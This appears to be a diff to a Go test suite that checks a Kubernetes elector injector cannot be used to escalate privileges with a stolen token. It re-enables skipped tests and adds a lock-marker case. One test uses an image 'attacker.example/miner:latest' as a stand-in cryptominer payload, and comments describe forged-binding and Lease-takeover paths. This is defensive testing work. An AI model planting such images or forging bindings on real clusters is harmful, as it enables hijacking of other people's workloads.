@@ -298,6 +298,9 @@ func TestInjectorCannotGrantByProxy(t *testing.T) {
 		r := rbacv1.PolicyRule{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"}, Verbs: []string{"get", "update", "watch"}, ResourceNames: names}
 		return []rbacv1.PolicyRule{r}
 	}
+	lockMarker := func(names ...string) rbacv1.PolicyRule {
+		return rbacv1.PolicyRule{APIGroups: []string{"elector.vapor.io"}, Resources: []string{"locks"}, ResourceNames: names, Verbs: []string{"restricted"}}
+	}
 	podLabel := rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "k8s-elector-pod-label"}
 	role := func(name string) rbacv1.RoleRef {
 		return rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: name}
@@ -327,14 +330,12 @@ func TestInjectorCannotGrantByProxy(t *testing.T) {
 	})
 
 	t.Run("the pod-label ClusterRole, for an account that runs no elector", func(t *testing.T) {
-		t.Skip("known open in the least-privilege issue: with a stolen injector token, a forged binding can " +
-			"authorize a patch that the policy no longer restricts once the reconciler has deleted it; " +
-			"restricting an account whose grant went away in between exceeds the policy's CEL cost limit as written")
 		// Shaped exactly like the reconciler's binding, in the namespace
 		// of the account: only the account's lack of an elector differs.
 		// The reconciler deletes it, and the thief makes it again: a patch
 		// that RBAC authorized while it existed must still be restricted
-		// when the policy looks, a moment later.
+		// when the policy looks, a moment later (the policy restricts an
+		// account that no longer holds the right it was let in by).
 		subject := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: "bystander", Namespace: a.ns}
 		err := grant(a.ns, "k8s-elector-bystander:pod-label", nil, podLabel, subject,
 			func() error { return setImage(ctx, bystander, a.ns, "web-0", "app", "attacker.example/miner:latest") })
@@ -342,15 +343,29 @@ func TestInjectorCannotGrantByProxy(t *testing.T) {
 			byInjectorPolicy, byPolicy(policyPodLabel), byRBAC("patch", "pods"))
 	})
 
-	t.Run("a grant-shaped Role over another controller's Lease, for an account that runs no elector", func(t *testing.T) {
-		t.Skip("known open in the least-privilege issue (and in the README's Security section): the escalation " +
-			"check makes the injector hold every lock right it grants, so a stolen injector token can grant a " +
-			"Lease by name in a namespace until the reconciler removes the Role")
+	t.Run("a grant-shaped Role over another controller's Lease, without the lock marker", func(t *testing.T) {
+		// Without the marker, the lock policy would not know the account
+		// for an elector's: the injector may not grant a lock by name
+		// without it.
 		subject := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: "bystander", Namespace: a.ns}
 		err := grant(a.ns, "k8s-elector-bystander", leaseRule("cert-manager-leader"), role("k8s-elector-bystander"), subject,
 			func() error { return takeLease(ctx, bystander, a.ns, "cert-manager-leader") })
+		refused(t, "the injector's token grants an application's account another controller's Lease, unmarked", err, byInjectorPolicy)
+	})
+
+	t.Run("a grant-shaped Role over another controller's Lease, for an account that runs no elector", func(t *testing.T) {
+		// The escalation check makes the injector hold every lock right it
+		// grants, so this Role is exactly one the reconciler could write:
+		// the thief's account holds update on the Lease by name until the
+		// reconciler deletes it. The Lease is no elector's, so an elector's
+		// rights do not reach it; and once the grant is gone, an update
+		// RBAC let through a moment before is restricted all the same.
+		subject := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Name: "bystander", Namespace: a.ns}
+		rules := append(leaseRule("cert-manager-leader"), lockMarker("cert-manager-leader"))
+		err := grant(a.ns, "k8s-elector-bystander", rules, role("k8s-elector-bystander"), subject,
+			func() error { return takeLease(ctx, bystander, a.ns, "cert-manager-leader") })
 		refused(t, "the injector's token lets an application's account take another controller's Lease", err,
-			byInjectorPolicy, byCleanup, byRBAC("update", "leases"))
+			byPolicy(policyLock), byCleanup, byRBAC("update", "leases"))
 	})
 
 	t.Run("the unrestricting marker, for an elector account that labels its pod", func(t *testing.T) {
